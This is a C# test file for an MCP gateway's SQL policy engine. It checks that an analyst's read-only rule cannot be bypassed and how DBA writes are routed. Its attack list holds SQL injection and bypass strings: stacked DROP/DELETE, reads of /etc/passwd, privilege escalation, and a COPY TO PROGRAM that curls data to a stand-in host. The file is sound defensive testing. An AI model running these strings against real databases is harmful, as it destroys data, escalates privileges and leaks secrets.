using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using McpGateway.Policies;
using McpGateway.Policies.Classifiers.Sql;
using McpGateway.Policies.Evaluation;
using McpGateway.Policies.Loading;
using McpGateway.Policies.Model;
using McpGateway.Policies.Tools;

namespace Policies.Tests.Classifiers.Sql;

/// <summary>
/// Ways around a read-only rule, tried through the real loader and engine with a bundle like the
/// reference one: analysts may run read-only statements on three tables; DBAs may read, and
/// writes and DDL need approval; unbounded writes, DROP/TRUNCATE, role, privilege, system and
/// transaction statements, COPY to files or programs and server-file functions are denied to
/// everyone. Each attack names only tables the analyst may read, so only the classifier stands
/// between it and an allow.
/// </summary>
public sealed class SqlPolicyTests
{
    private const string Bundle = """
        rules:
          - name: analysts-read-orders
            when: { groups: [analysts], tool: run_sql, connection: orders,
                    facts: { sql.readOnly: true, sql.tablesRead: { in: [public.orders, public.customers, public.order_items] } } }
            effect: allow
            obligations: { maxRows: 500, readOnly: true }
          - name: dba-reads
            when: { groups: [dba], tool: run_sql, connection: orders, facts: { sql.readOnly: true } }
            effect: allow
          - name: dba-writes
            when: { groups: [dba], tool: run_sql, connection: orders, facts: { sql.statements.kind: [insert, update, delete, merge] } }
            effect: approval
            approvers: { groups: [dba-leads] }
          - name: dba-ddl
            when: { groups: [dba], tool: run_sql, connection: orders, facts: { sql.statements.category: ddl } }
            effect: approval
            approvers: { groups: [dba-leads] }
          - name: no-unbounded-writes
            when: { tool: run_sql, facts: { sql.unboundedWrite: true } }
            effect: deny
            reason: UPDATE and DELETE need a WHERE that selects rows
          - name: no-drop-or-truncate
            when: { tool: run_sql, facts: { sql.statements: { any: [drop_table, drop_database, drop_schema, truncate] } } }
            effect: deny
          - name: no-role-privilege-system-transaction
            when: { tool: run_sql, facts: { sql.statements.category: [privilege, system, transaction] } }
            effect: deny
          - name: no-copy-outside
            when: { tool: run_sql, facts: { sql.statements.copyTarget: [file, program] } }
            effect: deny
          - name: no-server-files
            when: { tool: run_sql, facts: { sql.functions: { any: [pg_read_file, pg_read_binary_file, pg_ls_dir, pg_stat_file, lo_import, lo_export] } } }
            effect: deny
        """;

    private static readonly PolicyEnvironment Environment = new(
        [
            IdentityInfo.Create("analyst-1", ["analysts"], [Roles.Agent]),
            IdentityInfo.Create("dba-1", ["dba"], [Roles.Agent]),
            IdentityInfo.Create("lead-1", ["dba-leads"], [Roles.Operator]),
        ],
        ["analysts", "dba", "dba-leads"],
        [new PostgresTargetInfo("orders"), new PostgresTargetInfo("billing")],
        ["default"]);

    private static readonly Lazy<PolicyEngine> Engine = new(() =>
    {
        var catalog = new ToolCatalog([RunSqlTool.Create()]);
        var bundle = new PolicyBundleLoader(catalog, Environment).Load([new PolicySource("rules.yaml", Encoding.UTF8.GetBytes(Bundle))]);
        return new PolicyEngine(new PolicySnapshot(bundle, Environment, catalog));
    });

    public static TheoryData<string> Attacks { get; } =
    [
        // Statements hidden behind comments, strings, quoting and separators.
        "/* x */ DELETE FROM orders WHERE id = 1",
        "-- read\nDELETE FROM orders WHERE id = 1",
        "/* nested /* comment */ still a comment */ UPDATE orders SET total = 0 WHERE id = 1",
        "SELECT 1; DELETE FROM orders WHERE id = 1",
        "SELECT * FROM orders;DELETE FROM orders",
        "COMMIT; DROP TABLE orders",
        "ROLLBACK; UPDATE orders SET total = 0 WHERE id = 1",
        "SELECT * FROM orders; -- harmless\nDROP TABLE orders",
        "SELECT '\\'; DELETE FROM orders; --'",
        "SELECT E'\\''; DELETE FROM orders; --'",
        "SELECT 'a'';'; DELETE FROM orders WHERE id = 1",
        "SELECT $a$ x $a$; DELETE FROM orders WHERE id = 1",
        "SELECT $$ $$; DROP TABLE orders; SELECT $$ $$",
        "SELECT 1 \\g DELETE FROM orders",
        "SELECT * FROM orders\u037e DELETE FROM orders",
        "ＤＥＬＥＴＥ FROM orders",
        "SELECT * FROM оrders",
        "SELECT * FROM \"Orders\"",
        // Writes and locks inside a SELECT.
        "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
        "WITH x AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING *) SELECT * FROM x",
        "WITH a AS (SELECT 1), b AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM a",
        "WITH a AS (WITH b AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a",
        "SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)",
        "SELECT * FROM orders FOR UPDATE",
        "SELECT * FROM orders FOR SHARE NOWAIT",
        "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s",
        "SELECT * INTO orders_copy FROM orders",
        "CREATE TABLE orders_copy AS SELECT * FROM orders",
        "CREATE TEMP TABLE t AS SELECT * FROM orders",
        "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
        "EXPLAIN (ANALYZE) WITH x AS (DELETE FROM orders RETURNING 1) SELECT * FROM x",
        "EXPLAIN ANALYZE SELECT nextval('orders_id_seq')",
        // Functions that write, wait, signal, change settings or leave the database.
        "SELECT nextval('orders_id_seq')",
        "SELECT setval('orders_id_seq', 1)",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT pg_catalog.set_config('a.b', 'c', false)",
        "SELECT pg_sleep(3600)",
        "SELECT * FROM orders WHERE id = 1 AND pg_catalog.pg_sleep(5) IS NOT NULL",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_cancel_backend(1)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT * FROM ROWS FROM (pg_ls_dir('.'))",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT lo_get(1)",
        "SELECT * FROM dblink('dbname=orders', 'DELETE FROM orders') AS t(x int)",
        "SELECT dblink_exec('dbname=orders', 'DROP TABLE orders')",
        "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')",
        "SELECT current_setting('data_directory')",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_notify('ch', 'x')",
        "SELECT txid_current()",
        "SELECT public.count(*) FROM orders",
        "SELECT cleanup_orders()",
        "SELECT o.id FROM orders o ORDER BY pg_sleep(1)",
        "SELECT * FROM orders o, LATERAL (SELECT pg_sleep(1)) s",
        "VALUES ((SELECT pg_read_file('x')))",
        "SELECT * FROM orders TABLESAMPLE evil_method (1)",
        "SELECT 1 OPERATOR(public.+) 1",
        "SELECT 'x'::public.evil_type",
        // Tables outside the allowed ones, however they are written.
        "SELECT * FROM secrets",
        "SELECT * FROM public.secrets",
        "SELECT * FROM sEcReTs",
        "SELECT * FROM U&\"\\0073ecrets\"",
        "TABLE secrets",
        "SELECT * FROM orders JOIN secrets USING (id)",
        "SELECT (SELECT token FROM secrets LIMIT 1) FROM orders",
        "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)",
        "WITH s AS (SELECT * FROM secrets) SELECT * FROM s",
        "SELECT * FROM orders, (WITH orders AS (SELECT 1) SELECT * FROM orders) x, secrets",
        "SELECT * FROM orders UNION SELECT * FROM secrets",
        "SELECT * FROM pg_shadow",
        "SELECT * FROM pg_authid",
        "SELECT * FROM pg_catalog.pg_user",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM otherdb.public.secrets",
        // Everything that is not a query.
        "COPY orders TO PROGRAM 'curl -d @- http://evil'",
        "COPY (SELECT * FROM customers) TO '/tmp/leak'",
        "COPY orders FROM '/etc/passwd'",
        "COPY orders TO STDOUT",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$",
        "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM orders RETURNING 1 $$ LANGUAGE sql",
        "CREATE OR REPLACE VIEW orders_view AS SELECT * FROM orders",
        "SET ROLE postgres",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION postgres",
        "SET TRANSACTION READ WRITE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET default_transaction_read_only = off",
        "SET search_path = evil, public",
        "RESET ALL",
        "LOAD 'evil'",
        "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
        "ALTER ROLE CURRENT_USER SUPERUSER",
        "GRANT ALL ON orders TO PUBLIC",
        "PREPARE p AS DELETE FROM orders",
        "EXECUTE p",
        "DECLARE c CURSOR FOR SELECT * FROM orders",
        "CALL cleanup()",
        "LISTEN ch",
        "NOTIFY ch, 'x'",
        "LOCK orders",
        "BEGIN",
        "COMMIT",
        "TRUNCATE orders",
        "DELETE FROM orders WHERE id = 1",
        "UPDATE orders SET total = 0 WHERE id = 1",
        "INSERT INTO orders (id) VALUES (1)",
        "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE",
        "DROP TABLE orders",
        "VACUUM orders",
        "",
        "   ",
        "/* */",
        "SELEC * FROM orders",
        "SELECT * FROM orders WHERE",
    ];

    public static TheoryData<string> Benign { get; } =
    [
        "SELECT * FROM orders",
        "SeLeCt * FrOm OrDeRs",
        "SELECT * FROM public.orders",
        "SELECT o.id, c.name, sum(i.amount) FROM orders o JOIN customers c ON c.id = o.customer_id JOIN order_items i ON i.order_id = o.id GROUP BY 1, 2",
        "SELECT 1 /* ; DROP TABLE orders; */",
        "SELECT 'DELETE FROM orders; DROP TABLE orders'",
        "SELECT $$; DROP TABLE orders;$$",
        "SELECT E'it\\'s; DELETE FROM orders'",
        "SELECT 1 -- \r DELETE FROM orders",
        "WITH recent AS (SELECT * FROM orders ORDER BY id DESC LIMIT 5) SELECT * FROM recent",
        "WITH secrets AS (SELECT * FROM customers) SELECT * FROM secrets",
        "SELECT count(*) FROM order_items GROUP BY order_id HAVING count(*) > 1",
        "SELECT 1;",
        "EXPLAIN SELECT * FROM orders",
        "SELECT * FROM U&\"or\\0064ers\"",
        "SELECT now(), current_user, version()",
    ];

    [SqlTheory]
    [MemberData(nameof(Attacks))]
    public void A_way_around_the_read_only_rule_is_not_allowed(string sql)
    {
        var decision = Evaluate("analyst-1", sql);

        decision.Effect.Should().NotBe(PolicyEffect.Allow, sql);
        decision.Reasons.Should().NotBeEmpty();
    }

    [SqlTheory]
    [MemberData(nameof(Benign))]
    public void Plain_reads_of_the_allowed_tables_are_allowed(string sql)
    {
        var decision = Evaluate("analyst-1", sql);

        decision.Effect.Should().Be(PolicyEffect.Allow, string.Join("; ", decision.Reasons));
        decision.Obligations.Keys.Should().Contain(["maxRows", "readOnly"]);
        decision.Classification!.Request.Should().BeOfType<SqlStatementRequest>().Which.Sql.Should().Be(sql);
    }

    [SqlTheory]
    [InlineData("SELECT * FROM anything_at_all", "allow", "dba-reads")]
    [InlineData("DELETE FROM orders WHERE id = 1", "approval", "dba-writes")]
    [InlineData("UPDATE orders SET total = 0 WHERE id = $1", "approval", "dba-writes")]
    [InlineData("INSERT INTO orders (id) VALUES (1)", "approval", "dba-writes")]
    [InlineData("CREATE INDEX i ON orders (customer_id)", "approval", "dba-ddl")]
    [InlineData("DELETE FROM orders", "deny", "no-unbounded-writes")]
    [InlineData("UPDATE orders SET total = 0 WHERE 1 = 1", "deny", "no-unbounded-writes")]
    [InlineData("WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d", "deny", "no-unbounded-writes")]
    [InlineData("DROP TABLE orders", "deny", "no-drop-or-truncate")]
    [InlineData("TRUNCATE orders", "deny", "no-drop-or-truncate")]
    [InlineData("GRANT SELECT ON orders TO PUBLIC", "deny", "no-role-privilege-system-transaction")]
    [InlineData("COMMIT", "deny", "no-role-privilege-system-transaction")]
    [InlineData("COPY orders TO PROGRAM 'sh'", "deny", "no-copy-outside")]
    [InlineData("SELECT pg_read_file('/etc/passwd')", "deny", "no-server-files")]
    [InlineData("VACUUM orders", "deny", "builtin:outside-transaction")]
    [InlineData("SET search_path = evil", "deny", "builtin:forbidden-statement")]
    [InlineData("SELECT 1; SELECT 2", "deny", null)]
    public void The_dba_rules_decide_by_statement(string sql, string effect, string? rule)
    {
        var decision = Evaluate("dba-1", sql, sql.Contains("$1", StringComparison.Ordinal) ? "[1]" : null);

        decision.Effect.ToName().Should().Be(effect, string.Join("; ", decision.Reasons));
        if (rule is not null)
        {
            decision.MatchedRules.Should().Contain(rule);
        }
    }

    [SqlFact]
    public void A_multi_statement_call_is_refused_with_a_reason_a_model_can_act_on()
    {
        var reads = Evaluate("dba-1", "SELECT 1; SELECT 2");
        var drop = Evaluate("dba-1", "SELECT 1; DROP TABLE orders");

        reads.Effect.Should().Be(PolicyEffect.Deny);
        reads.Reasons.Should().Contain(r => r.Contains("Send each statement in its own call", StringComparison.Ordinal));
        drop.Effect.Should().Be(PolicyEffect.Deny);
        drop.MatchedRules.Should().Contain("no-drop-or-truncate", "the facts of every statement still reach the deny rules");
    }

    [SqlFact]
    public void Another_connection_is_not_covered_by_the_orders_rules()
    {
        var decision = Evaluate("analyst-1", "SELECT * FROM orders", connection: "billing");

        decision.Effect.Should().Be(PolicyEffect.Deny);
    }

    [SqlFact]
    public void Every_fact_the_classifier_sets_is_declared()
    {
        var descriptor = RunSqlTool.Create();
        var result = SqlCalls.Sql("SELECT 1; COPY orders TO STDOUT; SET x = 1");

        foreach (var name in result.Facts.Values.Keys)
        {
            descriptor.FindFact(name).Should().NotBeNull(name);
        }

        foreach (var element in result.Facts.ElementsOf(RunSqlTool.Statements))
        {
            element.Values.Keys.Should().BeEquivalentTo(descriptor.Facts.Values.Where(f => f.ElementList == RunSqlTool.Statements).Select(f => f.Name));
        }
    }

    private static PolicyDecision Evaluate(string identity, string sql, string? parameters = null, string connection = "orders")
    {
        var arguments = new JsonObject { ["connection"] = connection, ["sql"] = sql };
        if (parameters is not null)
        {
            arguments["params"] = JsonNode.Parse(parameters);
        }

        using var document = JsonDocument.Parse(arguments.ToJsonString());
        return Engine.Value.Evaluate(identity, RunSqlTool.Name, document.RootElement);
    }
}
